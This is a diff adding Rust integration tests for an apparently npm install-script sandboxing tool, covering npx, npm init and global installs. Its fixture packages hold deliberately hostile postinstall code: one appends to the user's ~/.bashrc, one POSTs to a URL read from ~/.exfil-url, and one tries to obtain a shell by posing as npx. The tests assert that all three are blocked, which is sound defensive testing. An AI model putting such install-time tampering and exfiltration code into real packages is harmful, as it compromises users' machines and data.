@@ -91,6 +91,9 @@ fn fixtures() {
                const env = Object.assign({{}}, process.env, {{ PKGWARD_NPM_SCRIPT_BROKER: sock, npm_lifecycle_event: 'postinstall' }});\n\
                const r = cp.spawnSync({exe}, ['-c', 'echo ran > ' + path.join(dir, 'sneak-ran')], {{ cwd: path.join(process.cwd(), '..', 'pw-scr-dep'), env, stdio: 'inherit' }});\n\
                fs.writeFileSync(path.join(dir, 'sneak-status'), String(r.status));\n\
+               const npx = Object.assign({{}}, env, {{ npm_lifecycle_event: 'npx' }});\n\
+               const n = cp.spawnSync({exe}, ['-c', 'echo ran > ' + path.join(dir, 'sneak-npx-ran')], {{ env: npx, stdio: 'inherit' }});\n\
+               fs.writeFileSync(path.join(dir, 'sneak-npx-status'), String(n.status));\n\
              }}\n",
             marker = js_marker("sneak-postinstall"),
             exe = serde_json::json!(env!("CARGO_BIN_EXE_pkgward")),
@@ -115,6 +118,47 @@ fn fixtures() {
             &NpmPackage::new("pw-scr-term", "1.0.0")
                 .script("postinstall", "exec node term.js")
                 .file("term.js", term),
+        );
+        // Run by `npx`: its postinstall builds what its bin needs (in its
+        // own directory) and tries more; its bin prints, and exits 3 when told.
+        let build = format!(
+            "{marker}\
+             fs.writeFileSync(path.join(__dirname, 'built.js'), 'module.exports = \"built\";\\n');\n\
+             let rc = 'written';\n\
+             try {{ fs.appendFileSync(path.join(require('os').homedir(), '.bashrc'), 'pwned\\n'); }} catch (e) {{ rc = 'blocked'; }}\n\
+             fs.writeFileSync(path.join(dir, 'npx-bashrc'), rc);\n\
+             {evil}",
+            marker = js_marker("npx-postinstall"),
+            evil = "try { const url = fs.readFileSync(path.join(require('os').homedir(), '.exfil-url'), 'utf8').trim();\n\
+                    require('http').request(url + '/npx', { method: 'POST' }, () => {}).on('error', () => {}).end('x'); } catch (e) {}\n",
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-scr-npx", "1.0.0")
+                .script("postinstall", "node build.js")
+                .file("build.js", build)
+                .field("bin", serde_json::json!({ "pw-scr-npx": "bin.js" }))
+                .executable(
+                    "bin.js",
+                    "#!/usr/bin/env node\n\
+                     if (process.argv[2] === 'exit3') process.exit(3);\n\
+                     console.log('pw-scr-npx says ' + require('./built.js') + ' ' + process.argv.slice(2).join(' '));\n",
+                ),
+        );
+        // `npm init pw-scr` runs it; it needs pw-scr-npx built.
+        r.publish_npm(
+            &NpmPackage::new("create-pw-scr", "1.0.0")
+                .dep("pw-scr-npx", "^1.0.0")
+                .field("bin", serde_json::json!({ "create-pw-scr": "init.js" }))
+                .executable(
+                    "init.js",
+                    "#!/usr/bin/env node\nconsole.log('init says ' + require('pw-scr-npx/built.js'));\n",
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-scr-npx-app", "1.0.0")
+                .dep("pw-scr-evil", "^1.0.0")
+                .field("bin", serde_json::json!({ "pw-scr-npx-app": "app.js" }))
+                .executable("app.js", "#!/usr/bin/env node\nconsole.log('app ran');\n"),
         );
         r.publish_npm(
             &NpmPackage::new("@pwscr/native", "1.2.0")
@@ -733,6 +777,10 @@ fn approved_code_cannot_ask_the_script_broker_for_more() {
     // …and was refused: nothing ran, the client failed.
     assert_eq!(g.sb.marker("sneak-ran"), None);
     assert_eq!(g.sb.marker("sneak-status").as_deref(), Some("70"));
+    // Posing as npx's command gets no shell either: the broker is asked
+    // first, and refuses.
+    assert_eq!(g.sb.marker("sneak-npx-ran"), None);
+    assert_eq!(g.sb.marker("sneak-npx-status").as_deref(), Some("70"));
     // The approved scripts ran inside npm's own install: one npm process.
     let npm_runs = g
         .audit()
@@ -844,4 +892,212 @@ fn a_signal_to_the_script_shell_reaches_the_approved_script() {
     let r = recs.iter().find(|r| r["package"] == "pw-scr-term").unwrap();
     assert_eq!(r["ran"], true);
     assert_eq!(r["exit_code"], 7, "{r}");
+}
+
+/// `npx` of an approved package: npm installs it into its npx cache and
+/// runs its postinstall through pkgward, confined to that directory; the
+/// bin then runs as the user's command, its output and exit code as they are.
+#[test]
+fn npx_builds_an_approved_package_confined_and_runs_its_bin() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "hello", "world"]);
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npx failed: {err}");
+    // The bin found what the postinstall built in its own directory.
+    assert_eq!(
+        text(&o.stdout),
+        "pw-scr-npx says built hello world\n",
+        "{err}"
+    );
+    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
+    // Confined: no write outside, nothing reached the listener.
+    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
+    no_effects_of_evil(&g);
+    assert!(!err.contains("install-time code not run"), "{err}");
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let r = recs
+        .iter()
+        .find(|r| r["package"] == "pw-scr-npx")
+        .unwrap_or_else(|| panic!("{recs:#?}"));
+    assert_eq!(r["invocation_id"], inv["invocation_id"]);
+    assert_eq!(r["decision"], "approved");
+    assert_eq!(r["ran"], true);
+    assert_eq!(r["exit_code"], 0);
+    assert_eq!(r["path"], "node_modules/pw-scr-npx");
+    // The command is not install-time code: one record, the postinstall.
+    assert_eq!(recs.len(), 1, "{recs:#?}");
+    // The bin's exit code is npx's.
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "exit3"]);
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
+    // `npm init NAME` is `npm exec create-NAME`: built the same way.
+    let g = setup("[scripts]\nallow = [\"npm:create-pw-scr\", \"npm:pw-scr-npx\"]\n");
+    let o = g.npm(&["init", "--yes", "pw-scr"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    // (After npm's own banner, which `npm init` prints.)
+    let out = text(&o.stdout);
+    assert!(out.ends_with("\ninit says built\n"), "{out}");
+    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
+}
+
+/// `npx` of an approved package that depends on an unapproved one: the
+/// dependency's postinstall does not run, and is listed and recorded.
+#[test]
+fn npx_does_not_run_an_unapproved_dependency_and_lists_it() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx-app\"]\n");
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx-app"]);
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npx failed: {err}");
+    assert_eq!(text(&o.stdout), "app ran\n", "{err}");
+    no_effects(&g);
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
+        "{err}"
+    );
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-dep@1.0.0"),
+        "{err}"
+    );
+    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let evil = recs
+        .iter()
+        .find(|r| r["package"] == "pw-scr-evil")
+        .unwrap_or_else(|| panic!("{recs:#?}"));
+    assert_eq!(evil["invocation_id"], inv["invocation_id"]);
+    assert_eq!(evil["decision"], "deny");
+    assert_eq!(evil["ran"], false);
+}
+
+/// `npm install -g`: the approved package's postinstall runs confined to
+/// its own directory under the global prefix; the unapproved one's does not
+/// run, and is listed and recorded.
+#[test]
+fn a_global_install_builds_the_approved_package_only() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
+    let prefix = g.sb.root().join("global");
+    let p = prefix.to_str().unwrap();
+    let o = g.npm(
+        &["install", "-g", "--prefix", p, "pw-scr-npx", "pw-scr-evil"],
+        &[],
+    );
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npm failed: {err}");
+    let pkg = prefix.join("lib/node_modules/pw-scr-npx");
+    assert!(pkg.join("built.js").is_file(), "{err}");
+    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
+    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
+    no_effects(&g);
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
+        "{err}"
+    );
+    assert!(!err.contains("approve npm:pw-scr-npx"), "{err}");
+    let bin = std::process::Command::new(prefix.join("bin/pw-scr-npx"))
+        .arg("hi")
+        .output()
+        .unwrap();
+    assert_eq!(text(&bin.stdout), "pw-scr-npx says built hi\n");
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let find = |n: &str| {
+        recs.iter()
+            .find(|r| r["package"] == n)
+            .unwrap_or_else(|| panic!("{recs:#?}"))
+    };
+    let (ok, evil) = (find("pw-scr-npx"), find("pw-scr-evil"));
+    assert_eq!(ok["invocation_id"], inv["invocation_id"]);
+    assert_eq!(ok["decision"], "approved");
+    assert_eq!(ok["ran"], true);
+    assert_eq!(ok["path"], "node_modules/pw-scr-npx");
+    assert_eq!(evil["decision"], "deny");
+    assert_eq!(evil["ran"], false);
+}
+
+/// The user's `script-shell` (`.npmrc` or flag) runs the command `npx`
+/// runs, as without pkgward, and never an install script; the command
+/// sees the user's setting, not pkgward's broker.
+#[test]
+fn npx_runs_its_command_with_the_users_script_shell_only() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
+    let shell = g.sb.root().join("user-shell");
+    std::fs::write(
+        &shell,
+        format!(
+            "#!/bin/sh\nprintf '%s\\n' \"$2\" >> '{}/user-shell'\nexec /bin/sh \"$@\"\n",
+            g.sb.markers.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&shell, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    std::fs::write(
+        g.sb.work.join(".npmrc"),
+        format!("script-shell={}\n", shell.display()),
+    )
+    .unwrap();
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "hello"]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), "pw-scr-npx says built hello\n");
+    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
+    assert_eq!(
+        g.sb.marker("user-shell").as_deref(),
+        Some("'pw-scr-npx' hello\n")
+    );
+    // The command's environment: the user's shell, no broker.
+    let probe = "echo \"$npm_config_script_shell|${PKGWARD_NPM_SCRIPT_BROKER:-none}|${npm_config_ignore_scripts:-unset}\"";
+    let o = g.npm(
+        &["exec", "--yes", "--package", "pw-scr-npx", "-c", probe],
+        &[],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), format!("{}|none|unset\n", shell.display()));
+    // The flag, without the .npmrc.
+    std::fs::remove_file(g.sb.work.join(".npmrc")).unwrap();
+    let flag = format!("--script-shell={}", shell.display());
+    let o = g.npm_tool("npx", &[flag.as_str(), "--yes", "pw-scr-npx", "flag"]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), "pw-scr-npx says built flag\n");
+    let log = g.sb.marker("user-shell").unwrap_or_default();
+    assert!(log.ends_with("'pw-scr-npx' flag\n"), "{log}");
+    assert!(!log.contains("build.js"), "{log}");
+    let o = g.npm_tool(
+        "npx",
+        &[
+            flag.as_str(),
+            "--yes",
+            "--package",
+            "pw-scr-npx",
+            "-c",
+            probe,
+        ],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), format!("{}|none|unset\n", shell.display()));
+    // No command: npm runs its script shell as the script; that is the
+    // user's shell (here reading its commands from stdin), not pkgward.
+    let reg = shared().npm_url();
+    let mut child =
+        g.sb.command(g.shims.join("npx"), &[g.sb.npm_env(&reg), g.pkgward_env()])
+            .arg(flag.as_str())
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+    std::io::Write::write_all(
+        &mut child.stdin.take().unwrap(),
+        b"echo interactive-$((1+2))\n",
+    )
+    .unwrap();
+    let o = child.wait_with_output().unwrap();
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert!(
+        text(&o.stdout).contains("interactive-3"),
+        "{}",
+        text(&o.stdout)
+    );
+    let log = g.sb.marker("user-shell").unwrap_or_default();
+    // `user-shell -c user-shell`, as npm would start it.
+    assert!(log.contains(&format!("\n{}\n", shell.display())), "{log}");
 }
